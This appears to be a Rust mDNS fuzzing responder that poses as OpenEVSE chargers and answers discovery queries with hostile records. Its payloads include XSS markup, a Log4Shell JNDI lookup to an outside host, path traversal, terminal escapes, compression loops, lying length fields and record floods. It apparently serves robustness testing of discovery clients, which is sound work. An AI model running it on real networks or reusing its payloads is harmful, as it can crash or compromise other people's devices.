//! A host that answers every question of multicast DNS with more, longer and stranger things than any device would: all
//! under a type that chargers announce, so that whoever looks for chargers has to read them.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use socket2::{Domain, Protocol, Socket, Type};
use tokio::net::UdpSocket;
use tokio::time::{Instant, timeout};

const GROUP: Ipv4Addr = Ipv4Addr::new(224, 0, 0, 251);
const PORT: u16 = 5353;
/// What real chargers announce.
const SERVICE: &str = "_openevse._tcp.local";
/// As many instances are named, without anything else about them.
const INSTANCES: usize = 10_000;
/// All is said again at most this often.
const PAUSE: Duration = Duration::from_millis(500);

// Types of records.
const A: u16 = 1;
const PTR: u16 = 12;
const TXT: u16 = 16;
const SRV: u16 = 33;

/// Names that are markup, orders to a terminal, paths, or read from right to left.
const NAMES: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "\u{202E}regrahc",
    "\u{2066}charger\u{2069}\u{200B}\u{FEFF}",
    "../../../../etc/passwd",
    "..\\..\\con",
    "\u{1B}[2J\u{1B}]0;owned\u{7}",
    "two\r\nlines",
    "\u{0}nothing",
    "{\"event\":\"device\"}",
    "%s%n${jndi:ldap://203.0.113.5/a}",
];

/// Where a charger would be that is not on this LAN, or is the one who asks.
const ELSEWHERE: &[Ipv4Addr] = &[
    Ipv4Addr::new(203, 0, 113, 9),
    Ipv4Addr::new(10, 99, 99, 99),
    Ipv4Addr::new(127, 0, 0, 1),
    Ipv4Addr::new(192, 168, 77, 255),
    Ipv4Addr::new(224, 0, 0, 251),
    Ipv4Addr::UNSPECIFIED,
    Ipv4Addr::BROADCAST,
];

/// Begins to listen and to answer.
pub async fn play(address: Ipv4Addr) {
    let socket = Socket::new(Domain::IPV4, Type::DGRAM, Some(Protocol::UDP)).unwrap();
    socket.set_reuse_address(true).unwrap();
    socket.set_nonblocking(true).unwrap();
    socket.set_send_buffer_size(1 << 20).unwrap();
    socket.bind(&SocketAddr::from((Ipv4Addr::UNSPECIFIED, PORT)).into()).unwrap();
    socket.join_multicast_v4(&GROUP, &address).unwrap();
    socket.set_multicast_if_v4(&address).unwrap();
    socket.set_multicast_loop_v4(false).unwrap();
    tokio::spawn(answer(UdpSocket::from_std(socket.into()).unwrap(), messages(address)));
}

/// Says everything to whoever asks anything, and to all.
async fn answer(socket: UdpSocket, messages: Vec<Vec<u8>>) {
    let mut question = [0; 9000];
    while let Ok((_, from)) = socket.recv_from(&mut question).await {
        for message in &messages {
            for to in [from, SocketAddr::from((GROUP, PORT))] {
                // what does not get through is not missed
                let _ = socket.send_to(message, to).await;
            }
        }
        let quiet = Instant::now() + PAUSE;
        while timeout(quiet - Instant::now(), socket.recv_from(&mut question)).await.is_ok() {}
    }
}

fn messages(own: Ipv4Addr) -> Vec<Vec<u8>> {
    let mut all = vec![long_text(own), loops(), lies()];
    all.extend(NAMES.iter().map(|name| instance(name, own, &[name, "version=1", "id=1", "type=x"])));
    let elsewhere = ELSEWHERE.iter().enumerate();
    all.extend(elsewhere.map(|(i, at)| instance(&format!("elsewhere-{i}"), *at, &["type=x", "version=1", "id=1"])));
    let numbers: Vec<usize> = (0..INSTANCES).collect();
    all.extend(numbers.chunks(1000).map(many));
    all.push(types());
    all
}

/// A charger as it would announce itself, with this name and these texts.
fn instance(name: &str, at: Ipv4Addr, texts: &[&str]) -> Vec<u8> {
    let full = [&label(name.as_bytes())[..], &dotted(SERVICE)].concat();
    let host = [&label(name.as_bytes())[..], &dotted("local")].concat();
    let text: Vec<u8> = texts.iter().flat_map(|it| label(it.as_bytes())).collect();
    message(&[
        record(&dotted(SERVICE), PTR, &full),
        record(&full, SRV, &[&[0, 0, 0, 0, 0, 80][..], &host].concat()),
        record(&full, TXT, &text),
        record(&host, A, &at.octets()),
    ])
}

/// As long a text as fits a datagram.
fn long_text(own: Ipv4Addr) -> Vec<u8> {
    let full = [&label(b"long")[..], &dotted(SERVICE)].concat();
    let host = dotted("long.local");
    let text: Vec<u8> = (0..252).flat_map(|i| label(format!("key{i}={:x<246}", "").as_bytes())).collect();
    message(&[
        record(&dotted(SERVICE), PTR, &full),
        record(&full, SRV, &[&[0, 0, 0, 0, 0, 80][..], &host].concat()),
        record(&host, A, &own.octets()),
        record(&full, TXT, &text),
    ])
}

/// A thousand instances of which nothing but the name is told.
fn many(numbers: &[usize]) -> Vec<u8> {
    let names =
        numbers.iter().map(|number| [&label(format!("charger-{number}").as_bytes())[..], &dotted(SERVICE)].concat());
    message(&names.map(|name| record(&dotted(SERVICE), PTR, &name)).collect::<Vec<_>>())
}

/// A thousand types of services.
fn types() -> Vec<u8> {
    let meta = dotted("_services._dns-sd._udp.local");
    let types = (0..1000).map(|number| dotted(&format!("_type{number}._tcp.local")));
    message(&types.map(|name| record(&meta, PTR, &name)).collect::<Vec<_>>())
}

/// A name that is compressed to itself.
fn loops() -> Vec<u8> {
    let mut message = message(&[]);
    message[7] = 1;
    message.extend([0xC0, 12, 0, PTR as u8, 0, 1, 0, 0, 0, 120, 0, 2, 0xC0, 12]);
    message
}

/// More records and a longer one than there are.
fn lies() -> Vec<u8> {
    let mut message = message(&[record(&dotted(SERVICE), PTR, &dotted(SERVICE))]);
    message[6] = 0xFF;
    message.extend(dotted(SERVICE));
    message.extend([0, PTR as u8, 0, 1, 0, 0, 0, 120, 0xFF, 0xFF]);
    message
}

fn message(records: &[Vec<u8>]) -> Vec<u8> {
    let [high, low] = (records.len() as u16).to_be_bytes();
    let mut message = vec![0, 0, 0x84, 0, 0, 0, high, low, 0, 0, 0, 0];
    message.extend(records.concat());
    message
}

fn record(name: &[u8], of_type: u16, data: &[u8]) -> Vec<u8> {
    let length = (data.len() as u16).to_be_bytes();
    [name, &of_type.to_be_bytes(), &[0, 1], &[0, 0, 0, 120], &length, data].concat()
}

fn dotted(name: &str) -> Vec<u8> {
    let mut bytes: Vec<u8> = name.split('.').flat_map(|part| label(part.as_bytes())).collect();
    bytes.push(0);
    bytes
}

fn label(text: &[u8]) -> Vec<u8> {
    let text = &text[..text.len().min(255)];
    [&[text.len() as u8], text].concat()
}
